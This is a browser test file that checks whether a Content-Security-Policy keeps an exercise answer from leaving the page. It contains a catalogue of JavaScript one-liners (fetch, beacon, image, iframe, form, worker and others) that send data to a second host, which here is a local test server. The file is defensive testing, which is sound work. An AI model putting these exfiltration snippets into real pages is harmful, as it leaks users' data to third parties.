"""The policy in every page: whatever a script tries, an answer goes nowhere. Without the policy it would."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, Page

from tests.helpers.book import BOOK, PAGES
from tests.helpers.doing_exercises import SCENE, exercise

pytestmark = pytest.mark.browser

WAYS = {
    "fetch": "fetch(there, { method: 'POST', body: answer, mode: 'no-cors' }).catch(() => {})",
    "request": "{ const r = new XMLHttpRequest(); r.open('POST', there); r.onerror = () => {}; try { r.send(answer); } catch {} }",
    "beacon": "navigator.sendBeacon(there, answer)",
    "socket": "try { new WebSocket(there.replace('http', 'ws')); } catch {}",
    "stream of events": "new EventSource(there)",
    "picture": "new Image().src = there",
    "script": "{ const s = document.createElement('script'); s.src = there; document.head.append(s); }",
    "style sheet": "{ const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = there; document.head.append(l); }",
    "background": "document.body.style.backgroundImage = `url(${there})`",
    "font": "new FontFace('x', `url(${there})`).load().catch(() => {})",
    "prefetch": "{ const l = document.createElement('link'); l.rel = 'prefetch'; l.href = there; document.head.append(l); }",
    "frame": "{ const f = document.createElement('iframe'); f.src = there; document.body.append(f); }",
    "object": "{ const o = document.createElement('object'); o.data = there; document.body.append(o); }",
    "film": "{ const v = document.createElement('video'); v.src = there; document.body.append(v); v.load(); }",
    "form": "{ const f = document.createElement('form'); f.action = there; f.method = 'post'; document.body.append(f); f.submit(); }",
    "worker": "try { new Worker(URL.createObjectURL(new Blob([`fetch('${there}', { mode: 'no-cors' })`]))); } catch {}",
    "script in the page": "{ const s = document.createElement('script'); s.text = `new Image().src = '${there}'`; document.head.append(s); }",
}


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another host, which notes whatever reaches it."""
    reached: list[str] = []

    class Noting(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            reached.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Noting) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", reached
        server.shutdown()


def tries(page: Page, there: str) -> None:
    """Try every way but the form, then the form, which would leave the page."""
    page.evaluate(
        "window.broken = []; addEventListener('securitypolicyviolation', (event) => broken.push(event.violatedDirective))"
    )
    for way, script in WAYS.items():
        address = f"{there}/{way.replace(' ', '-')}"
        page.evaluate(f"([there, answer]) => {{ {script} }}", [address, "Damp homes"])
    page.evaluate(
        "new Promise((done) => setTimeout(done, 1500))"
    )  # as long as the slowest way takes without the policy


@pytest.mark.parametrize("scheme", ["http", "file"])
def test_an_answer_that_a_script_tries_to_send_stays_here(browser: Browser, address, elsewhere, scheme: str) -> None:
    there, reached = elsewhere
    reached.clear()
    page = browser.new_context().new_page()
    page.goto(address(SCENE, scheme))
    exercise(page, "ch01-take-back").get_by_role("textbox").first.fill("Damp homes")
    tries(page, there)
    assert reached == []
    broken = page.evaluate("broken")
    page.context.close()
    directives = {"connect-src", "img-src", "script-src-elem", "style-src-elem", "font-src", "frame-src", "object-src"}
    assert directives | {"media-src", "form-action", "worker-src"} <= set(broken)


def test_without_the_policy_it_would_have_gone(browser: Browser, address, elsewhere) -> None:
    """The same ways, with the policy switched off: so it is the policy that stops them."""
    there, reached = elsewhere
    reached.clear()
    page = browser.new_context(bypass_csp=True).new_page()
    page.goto(address(SCENE))
    try:
        tries(page, there)
    except Exception as error:  # the form has led away from the page
        assert "destroyed" in str(error) or "navigation" in str(error)
    page.context.close()
    missed = {f"/{way.replace(' ', '-')}" for way in WAYS} - set(reached)
    assert missed <= {"/socket"}, "a way that goes nowhere anyway proves nothing"


@pytest.mark.parametrize("path", ["index.html", *PAGES])
def test_every_page_carries_the_policy_before_anything_it_could_load(path: str) -> None:
    text = (BOOK / path).read_text("utf-8")
    policy = text.index('http-equiv="Content-Security-Policy"')
    for loaded in ("<script", "<link", "<style", "<img"):
        assert loaded not in text[:policy]
    assert "default-src 'none'" in text and "connect-src 'self'" in text
    assert "unsafe-eval" not in text and "script-src 'self';" in text
